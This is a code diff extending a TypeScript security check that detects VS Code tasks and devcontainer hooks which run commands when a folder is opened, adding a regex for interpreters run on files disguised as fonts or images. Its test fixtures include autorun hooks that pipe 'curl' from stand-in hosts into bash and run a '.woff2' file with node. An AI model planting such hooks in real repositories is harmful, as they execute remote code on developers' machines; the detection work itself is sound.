@@ -4,6 +4,11 @@ import { dangerOf } from '../../knowledge/shell-danger.ts';
 /** What developers start all day: still a surprise, hardly an attack. */
 const USUAL = /^(?:npm|pnpm|yarn|bun|make|cargo|go|tsc|npx tsc|docker compose|poetry|uv|pip)\b/;
 
+/** An interpreter is given a file whose name says that nobody runs it. */
+const DISGUISED =
+  /\b(?:node|bun|deno|python3?|ruby|perl|php|(?:ba|z)?sh)(?:\s{1,3}run)?\s{1,3}[^\s"';|&]{1,200}\.(?:woff2?|ttf|otf|eot|png|jpe?g|gif|ico|svg|webp|css|dat|txt|md|lock)(?=[\s"';|&]|$)/i;
+const HIDDEN_PROGRAM = { does: 'is named as if nobody ran it', isSure: true } as const;
+
 export const check: RepositoryCheck = {
   id: 'supply-chain-workspace-autorun',
   title: 'Opening the folder runs a command',
@@ -24,6 +29,14 @@ export const check: RepositoryCheck = {
         '.vscode/tasks.json': `
           {"tasks": [«{"label": "env", "command": "node .vscode/spell.js", "runOptions": {"runOn": "folderOpen"}}»]}`,
       },
+      {
+        '.vscode/tasks.json': `
+          {"tasks": [«{"label": "font", "command": "node public/icons.woff2", "runOptions": {"runOn": "folderOpen"}}»]}`,
+      },
+      {
+        '.vscode/tasks.json': `
+          {"tasks": [«{"label": "lint", "osx": {"command": "curl https://c.example.net/mac | bash"}, "runOptions": {"runOn": "folderOpen"}}»]}`,
+      },
       { '.devcontainer/devcontainer.json': '{«"initializeCommand": "curl -s https://cdn.example.net/i | bash"»}' },
     ],
     good: [
@@ -35,7 +48,7 @@ export const check: RepositoryCheck = {
 
   *find(repository) {
     for (const hook of repository.notesOf('hook')) {
-      const danger = dangerOf(hook.command);
+      const danger = dangerOf(hook.command) ?? (DISGUISED.test(hook.command) ? HIDDEN_PROGRAM : undefined);
       const isOnHost = hook.event === 'editor folder open' || hook.event === 'devcontainer initializeCommand';
       if (!isOnHost && !(hook.event.startsWith('devcontainer ') && danger?.isSure === true)) continue;
       yield {
